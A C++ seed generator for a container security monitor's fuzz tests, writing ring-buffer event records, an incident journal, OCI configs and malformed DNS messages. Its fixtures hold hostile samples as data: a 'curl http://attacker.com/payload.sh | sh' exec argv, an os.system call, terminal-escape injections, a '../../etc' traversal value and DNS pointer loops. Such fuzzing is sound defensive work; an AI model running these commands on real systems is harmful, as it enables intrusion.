// Writes the generated seeds of testdata/fuzz/ (the /proc, cgroup and time
// seeds are plain text files, copied from real hosts):
//
//   make_seeds testdata/fuzz
//
// event_decode/*.bin: ring-buffer records laid out with the structs of
// bpf/events.h, exactly as the BPF programs fill them.
//
// journal/incident.journal: the unit tests' incident (a pod whose shell downloads
// and runs a payload) through JournalWriter, plus what the incident lacks: a
// loss, a killed process, an IPv6 connect that failed and hostile argv.
// journal/incident-512.journal is the same journal with 512-byte pages (VACUUM):
// a quarter of the size, so mutations land on rows rather than free space.
//
// oci_config/*: config.json files as containerd's CRI plugin and CRI-O write
// them (a container and a pause sandbox each), hostile ones, linux.cgroupsPath
// values of both cgroup drivers, and runtime execs (binary path, then argv,
// NUL-separated) as containerd's shim and a shell run them.
//
// dns/*.bin: DNS messages as resolvers and servers write them (a query, a
// CNAME chain with compressed names, AAAA, NXDOMAIN with its SOA, other
// record types, the same response framed for TCP) and hostile ones (pointer
// loops, escaped label bytes, counts the message cannot hold).
#include <sqlite3.h>
#include <sys/socket.h>

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "event.h"
#include "events.h"
#include "fixture_journal.h"

using namespace fixture;
using namespace std::string_literals;

namespace {

// ---------------------------------------------------------------- events

template <size_t N>
void put(char (&dst)[N], const std::string& s) {
    std::memset(dst, 0, N);
    std::memcpy(dst, s.data(), std::min(s.size(), N));
}

lineage_proc proc(uint32_t tgid, uint64_t start_ns) {
    lineage_proc p{};
    p.tgid = tgid;
    p.start_ns = start_ns;
    return p;
}

template <typename T>
std::string bytes_of(const T& record) {
    return std::string(reinterpret_cast<const char*>(&record), sizeof(record));
}

void write_file(const std::string& path, const std::string& bytes) {
    std::ofstream(path, std::ios::binary | std::ios::trunc)
        .write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

// binary | cgroup names, leaf first, each NUL-terminated | argv
std::string exec_record(const std::string& binary, const std::vector<std::string>& cgroup_leaf_first,
                        const std::string& argv, uint32_t flags) {
    std::string cgroup;
    for (const auto& name : cgroup_leaf_first) cgroup += name + '\0';
    lineage_exec_event e{};
    e.hdr.type = LINEAGE_EV_EXEC;
    e.hdr.size = static_cast<uint32_t>(sizeof(e) + binary.size() + cgroup.size() + argv.size());
    e.hdr.time_ns = at(1042, 501'000'000);
    e.proc = proc(18293, at(1042, 500'012'345));
    e.parent = proc(18201, at(1000, 123'456'789));
    e.cgroup_id = 8812;
    e.nspid = 27;
    e.old_tid = 18293;
    e.uid = e.gid = e.euid = 1000;
    e.flags = flags;
    e.binary_len = static_cast<uint16_t>(binary.size());
    e.cgroup_len = static_cast<uint16_t>(cgroup.size());
    e.argv_len = static_cast<uint16_t>(argv.size());
    put(e.comm, "sh");
    put(e.parent_comm, "my-app");
    put(e.nodename, kIncidentPodName);
    return bytes_of(e) + binary + cgroup + argv;
}

void write_event_seeds(const std::string& dir) {
    lineage_fork_event f{};
    f.hdr = {LINEAGE_EV_FORK, sizeof(f), at(1042, 500'012'345)};
    f.parent = proc(18201, at(1000, 123'456'789));
    f.child = proc(18293, at(1042, 500'012'345));
    put(f.parent_comm, "my-app");
    write_file(dir + "/fork.bin", bytes_of(f));

    const std::string uid = "7c9e6679_7425_40de_944b_e07fc1f90ae7";
    const std::vector<std::string> pod_cgroup_names{"cri-containerd-" + kIncidentContainer + ".scope",
                                                    "kubepods-burstable-pod" + uid + ".slice",
                                                    "kubepods-burstable.slice", "kubepods.slice"};
    write_file(dir + "/exec.bin",
               exec_record("/bin/sh", pod_cgroup_names, "sh\0-c\0curl http://attacker.com/payload.sh | sh\0"s, 0));
    // Cut by the argv cap: no trailing NUL, and the truncation flags set.
    write_file(dir + "/exec-truncated.bin",
               exec_record("/usr/bin/python3", {"session-3.scope", "user-1000.slice", "user.slice"},
                           "python3\0-c\0import os; os.system('id')\0\x1b]0;x\x07\xff"s,
                           LINEAGE_EXEC_ARGV_TRUNCATED | LINEAGE_EXEC_CGROUP_TRUNCATED));

    lineage_exit_event x{};
    x.hdr = {LINEAGE_EV_EXIT, sizeof(x), at(1061)};
    x.proc = proc(18300, at(1060, 111'222'333));
    x.exit_code = 9 | 0x80;  // SIGKILL, core dumped
    put(x.comm, "sh");
    write_file(dir + "/exit-killed.bin", bytes_of(x));
    x.exit_code = 2 << 8;  // exit 2
    write_file(dir + "/exit-code.bin", bytes_of(x));

    lineage_connect_event c{};
    c.hdr = {LINEAGE_EV_CONNECT, sizeof(c), at(1043, 350'000'000)};
    c.proc = proc(18296, at(1043, 200'000'002));
    c.syn_time_ns = at(1043, 340'000'000);
    c.family = AF_INET;
    c.sport = 43512;
    c.dport = 80;
    c.result = LINEAGE_CONNECT_OK;
    const uint8_t s4[] = {10, 244, 1, 17}, d4[] = {93, 184, 216, 34};
    std::memcpy(c.saddr, s4, 4);
    std::memcpy(c.daddr, d4, 4);
    write_file(dir + "/connect4.bin", bytes_of(c));
    c.family = AF_INET6;
    c.dport = 443;
    c.result = LINEAGE_CONNECT_FAILED;
    const uint8_t s6[16] = {0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x17};
    const uint8_t d6[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    std::memcpy(c.saddr, s6, 16);
    std::memcpy(c.daddr, d6, 16);
    write_file(dir + "/connect6.bin", bytes_of(c));
}

// ---------------------------------------------------------------- journal

int sql(const std::string& path, int flags, const std::string& statements) {
    sqlite3* db = nullptr;
    int rc = sqlite3_open_v2(path.c_str(), &db, flags, nullptr);
    char* err = nullptr;
    if (rc == SQLITE_OK) rc = sqlite3_exec(db, statements.c_str(), nullptr, nullptr, &err);
    if (rc != SQLITE_OK) {
        std::fprintf(stderr, "make_seeds: %s: %s\n", path.c_str(), err ? err : sqlite3_errmsg(db));
    }
    sqlite3_free(err);
    sqlite3_close(db);
    return rc == SQLITE_OK ? 0 : 1;
}

// The source stays exactly as JournalWriter left it (WAL mode included).
int compact_copy(const std::string& from, const std::string& to) {
    if (sql(from, SQLITE_OPEN_READONLY, "VACUUM INTO '" + to + "';") != 0) return 1;
    return sql(to, SQLITE_OPEN_READWRITE, "PRAGMA journal_mode=DELETE; PRAGMA page_size=512; VACUUM;");
}

int write_journal_seeds(const std::string& dir) {
    FixtureJournal fx = incident_fixture();
    const std::string pod_cg = pod_cgroup(kIncidentPodUid, kIncidentContainer);

    // A second shell in the pod: hostile argv, killed by SIGKILL with a core,
    // an IPv6 connect that failed, and events lost while it ran.
    Proc sh = FixtureJournal::proc(18300, at(1060, 111'222'333));
    fx.fork(FixtureJournal::proc(18201, at(1000, 123'456'789)), sh, at(1060, 111'222'333));
    ExecOpts opts;
    opts.cgroup = pod_cg;
    opts.nodename = kIncidentPodName;
    opts.nspid = 41;
    opts.truncated = lineage::kArgvTruncated;
    opts.raw_argv = "sh\0-c\0printf '\x1b]0;owned\x07'\0\xe2\x80\xae\xff\xfe"s;
    fx.exec(sh, "/bin/sh", {}, at(1060, 112'000'000), opts);
    fx.connect(sh, "2001:db8::1", 443, at(1060, 300'000'000), false, "fd00::17", 51234, 6);
    fx.loss(at(1060, 400'000'000), at(1060, 900'000'000), 17);
    fx.exit(sh, at(1061), 0, 9, true);

    std::error_code ec;
    const std::string full = dir + "/incident.journal";
    const std::string small = dir + "/incident-512.journal";
    std::filesystem::remove(full, ec);
    std::filesystem::remove(small, ec);
    fx.write(full);
    int rc = compact_copy(full, small);
    // Reading a WAL journal leaves an empty -wal and a -shm beside it.
    std::filesystem::remove(full + "-wal", ec);
    std::filesystem::remove(full + "-shm", ec);
    return rc;
}

// ---------------------------------------------------------------- oci_config

void write_oci_config_seeds(const std::string& dir) {
    const std::string uid = "1b2c3d4e-0000-4a5b-8c9d-0123456789ab";
    const std::string uid_ = "1b2c3d4e_0000_4a5b_8c9d_0123456789ab";
    const std::string cid = "d78c990c760b4f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192";
    const std::string sandbox = "9e8d7c6b5a49382716051f2e3d4c5b6a798897a6b5c4d3e2f10213243546576a";
    auto containerd = [&](const std::string& type, const std::string& id) {
        return R"({"ociVersion":"1.1.0","process":{"args":["/bin/api","--port","8080"],"cwd":"/"},)"
               R"("root":{"path":"rootfs"},"annotations":{"io.kubernetes.cri.container-type":")" +
               type + R"(","io.kubernetes.cri.sandbox-id":")" + sandbox +
               R"(","io.kubernetes.cri.sandbox-name":"ledger-api-7b9c8-k2m4p",)"
               R"("io.kubernetes.cri.sandbox-namespace":"finance","io.kubernetes.cri.sandbox-uid":")" +
               uid +
               R"(","io.kubernetes.cri.container-name":"api",)"
               R"("io.kubernetes.cri.image-name":"registry.example.test/ledger/api:1.4.2"},)"
               R"("linux":{"cgroupsPath":"kubepods-besteffort-pod)" +
               uid_ + ".slice:cri-containerd:" + id + R"(","namespaces":[{"type":"pid"},{"type":"mount"}]}})";
    };
    auto crio = [&](const std::string& type, const std::string& id) {
        return R"({"ociVersion":"1.0.2-dev","annotations":{"io.kubernetes.cri-o.ContainerType":")" + type +
               R"(","io.kubernetes.cri-o.ImageName":"registry.example.test/ledger/api:1.4.2",)"
               R"("io.kubernetes.pod.name":"ledger-api-7b9c8-k2m4p","io.kubernetes.pod.namespace":"finance",)"
               R"("io.kubernetes.pod.uid":")" +
               uid + R"(","io.kubernetes.container.name":"api"},"linux":{"cgroupsPath":"/kubepods/burstable/pod)" +
               uid + "/" + id + R"("}})";
    };
    write_file(dir + "/containerd-container.json", containerd("container", cid));
    write_file(dir + "/containerd-sandbox.json", containerd("sandbox", sandbox));
    write_file(dir + "/crio-container.json", crio("container", cid));
    write_file(dir + "/crio-sandbox.json", crio("sandbox", sandbox));
    write_file(dir + "/hostile-escapes.json",
               R"({"annotations":{"io.kubernetes.cri.container-name":"api\u001b]0;owned\u0007\r\n\u0000",)"
               R"("io.kubernetes.cri.image-name":42,"io.kubernetes.pod.uid":"../../etc"},"linux":"x"})");
    write_file(dir + "/hostile-nesting.json", R"({"process":[[[[[[[[{"annotations":{}}]]]]]]]],"annotations":[]})");
    write_file(dir + "/truncated.json", containerd("container", cid).substr(0, 200));
    write_file(dir + "/cgroups-systemd", "kubepods-burstable-pod" + uid_ + ".slice:crio:" + cid);
    write_file(dir + "/cgroups-cgroupfs", "/kubepods/besteffort/pod" + uid + "/" + cid);
    write_file(dir + "/cgroups-other", "system.slice:runc:" + cid);
    auto argv = [](const std::vector<std::string>& parts) {
        std::string out;
        for (size_t i = 0; i < parts.size(); ++i) out += (i ? "\0"s : ""s) + parts[i];
        return out;
    };
    write_file(dir + "/argv-shim", argv({"/usr/sbin/runc", "runc", "--root", "/run/containerd/runc/k8s.io", "--log",
                                         "/run/containerd/t/log.json", "--log-format", "json", "--systemd-cgroup",
                                         "create", "--bundle", "/run/containerd/t/" + cid, "--pid-file",
                                         "/run/containerd/t/init.pid", "--console-socket", "/tmp/pty.sock", cid}));
    write_file(dir + "/argv-run", argv({"/usr/bin/crun", "crun", "run", "-d", "-b=/b", "--", "id1"}));
    write_file(dir + "/argv-runsc",
               argv({"/usr/bin/runsc", "runsc", "--root=/run/runsc", "create", "-bundle", "/b", "x"}));
    write_file(dir + "/argv-start", argv({"/usr/sbin/runc", "runc", "start", "id1"}));
}

// ---------------------------------------------------------------- dns

// A DNS message, byte by byte in wire order (big-endian).
struct DnsWire {
    std::string bytes;

    DnsWire& u8(unsigned v) {
        bytes += static_cast<char>(v);
        return *this;
    }
    DnsWire& u16(unsigned v) { return u8(v >> 8 & 0xff).u8(v & 0xff); }
    DnsWire& u32(uint32_t v) { return u16(v >> 16).u16(v & 0xffff); }
    DnsWire& header(unsigned id, unsigned flags, unsigned qd, unsigned an, unsigned ns = 0, unsigned ar = 0) {
        return u16(id).u16(flags).u16(qd).u16(an).u16(ns).u16(ar);
    }
    DnsWire& label(const std::string& raw) {
        u8(static_cast<unsigned>(raw.size()));
        bytes += raw;
        return *this;
    }
    DnsWire& name(const std::vector<std::string>& labels) {
        for (const auto& l : labels) label(l);
        return u8(0);
    }
    DnsWire& pointer(unsigned at) { return u16(0xc000 | at); }
    DnsWire& record(unsigned type, uint32_t ttl, unsigned rdata_length) {
        return u16(type).u16(1).u32(ttl).u16(rdata_length);
    }
};

void write_dns_seeds(const std::string& dir) {
    const unsigned a = 1, ns = 2, cname = 5, soa = 6, ptr = 12, mx = 15, txt = 16, aaaa = 28, srv = 33, https = 65;
    const unsigned query = 0x0100, response = 0x8180;

    DnsWire q;
    q.header(0x1a2b, query, 1, 0).name({"attacker", "com"}).u16(a).u16(1);
    write_file(dir + "/query-a.bin", q.bytes);

    // www.attacker.com at 12, attacker.com at 16, cdn.attacker.com at 46,
    // edge.example.net at 64.
    DnsWire chain;
    chain.header(0x4d2e, response, 1, 4).name({"www", "attacker", "com"}).u16(a).u16(1);
    chain.pointer(12).record(cname, 300, 6).label("cdn").pointer(16);
    chain.pointer(46).record(cname, 60, 18).name({"edge", "example", "net"});
    chain.pointer(64).record(a, 20, 4).u32(0x5db8d822);
    chain.pointer(64).record(a, 20, 4).u32(0x5db8d823);
    write_file(dir + "/response-cname-chain.bin", chain.bytes);
    const std::string framed =
        std::string{static_cast<char>(chain.bytes.size() >> 8), static_cast<char>(chain.bytes.size() & 0xff)} +
        chain.bytes;
    write_file(dir + "/tcp-response.bin", framed);

    DnsWire six;
    six.header(9, response, 1, 2).name({"attacker", "com"}).u16(aaaa).u16(1);
    six.pointer(12).record(aaaa, 3600, 16).u32(0x20010db8).u32(0).u32(0).u32(1);
    six.pointer(12).record(aaaa, 3600, 16).u32(0).u32(0).u32(0xffff).u32(0x5db8d822);
    write_file(dir + "/response-aaaa.bin", six.bytes);

    DnsWire nx;
    nx.header(0x0bad, 0x8183, 1, 0, 1, 0).name({"nope", "attacker", "com"}).u16(a).u16(1);
    nx.pointer(17).record(soa, 900, 18 + 25 + 20).name({"ns1", "attacker", "com"});
    nx.name({"hostmaster", "attacker", "com"}).u32(2024010101).u32(7200).u32(3600).u32(1209600).u32(300);
    write_file(dir + "/response-nxdomain.bin", nx.bytes);

    DnsWire other;
    other.header(11, response, 1, 5).name({"attacker", "com"}).u16(255).u16(1);
    other.pointer(12).record(mx, 60, 4).u16(10).pointer(12);
    other.pointer(12).record(txt, 60, 6).label("hello");
    other.pointer(12).record(srv, 60, 8).u16(0).u16(5).u16(443).pointer(12);
    other.pointer(12).record(https, 60, 3).u16(1).u8(0);
    other.pointer(12).record(ns, 60, 6).label("ns1").pointer(12);
    write_file(dir + "/response-other-types.bin", other.bytes);

    DnsWire loop;
    loop.header(7, response, 1, 1).name({"x", "test"}).u16(a).u16(1);
    loop.label("a").pointer(24).record(a, 60, 4).u32(0x0a000001);
    write_file(dir + "/pointer-loop.bin", loop.bytes);

    DnsWire mutual;  // the ID is a pointer to the question's name, which points back at it
    mutual.header(0xc00c, query, 1, 0).pointer(0).u16(a).u16(1);
    write_file(dir + "/pointers-mutual.bin", mutual.bytes);

    DnsWire escaped;  // a dot, a backslash, controls, a space, DEL, 0xff and NUL in labels
    escaped.header(8, response, 1, 1).name({"x", "test"}).u16(ptr).u16(1);
    escaped.name({std::string("a.b\\c\x01 \x7f\xff\0", 10), "Attacker", "COM"}).record(ptr, 60, 4).label("\\.").u8(0);
    write_file(dir + "/escaped-labels.bin", escaped.bytes);

    DnsWire counts;  // 65535 answers claimed in 40 bytes
    counts.header(5, response, 1, 65535).name({"attacker", "com"}).u16(a).u16(1).pointer(12).u16(a);
    counts.bytes.resize(40, '\0');
    write_file(dir + "/count-exceeds.bin", counts.bytes);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: make_seeds TESTDATA_FUZZ_DIR\n");
        return 2;
    }
    const std::string root = argv[1];
    std::error_code ec;
    std::filesystem::create_directories(root + "/event_decode", ec);
    std::filesystem::create_directories(root + "/journal", ec);
    std::filesystem::create_directories(root + "/oci_config", ec);
    std::filesystem::create_directories(root + "/dns", ec);
    write_event_seeds(root + "/event_decode");
    write_oci_config_seeds(root + "/oci_config");
    write_dns_seeds(root + "/dns");
    return write_journal_seeds(root + "/journal");
}
